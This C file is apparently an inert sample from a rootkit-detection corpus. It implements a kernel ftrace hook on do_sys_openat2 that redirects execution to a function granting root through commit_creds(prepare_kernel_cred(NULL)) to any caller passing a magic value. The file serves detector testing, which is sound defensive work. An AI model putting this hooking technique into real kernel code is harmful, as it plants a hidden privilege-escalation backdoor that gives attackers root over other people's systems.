/*
 * Backsight corpus sample: kernel/ftrace-hook-static  (INERT - compiled only, never loaded)
 *
 * The static form of ftrace hooking: a const-initialised ftrace_ops (callback and
 * SAVE_REGS | IPMODIFY flags in .data), the target found with kallsyms_lookup_name imported
 * directly (as on kernels before 5.7). The callback moves the saved instruction pointer to a
 * replacement that gives root to a caller passing a magic value.
 */
#include "../../src/kshape.h"

MODINFO(license, "GPL");
MODINFO(name, "ftrace_static");
MODINFO(vermagic, "5.4.0-corpus SMP mod_unload ");
DEFINE_THIS_MODULE("ftrace_static");

extern ulong kallsyms_lookup_name(const char *name);

static long replacement(const struct pt_regs *regs)
{
	if (REGS_ARG1(regs) == 0x5ec7e7)
		commit_creds(prepare_kernel_cred(NULL));
	return 0;
}

static void callback(ulong ip, ulong parent_ip, struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	(void)ip; (void)parent_ip; (void)op;
	REGS_IP((struct pt_regs *)fregs) = (ulong)replacement;
}

static struct ftrace_ops ops = {
	.func = callback,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY,
};

static ulong target;

int init_module(void)
{
	target = kallsyms_lookup_name("do_sys_openat2");
	if (!target || ftrace_set_filter_ip(&ops, target, 0, 0))
		return -2;
	return register_ftrace_function(&ops);
}

void cleanup_module(void)
{
	unregister_ftrace_function(&ops);
}
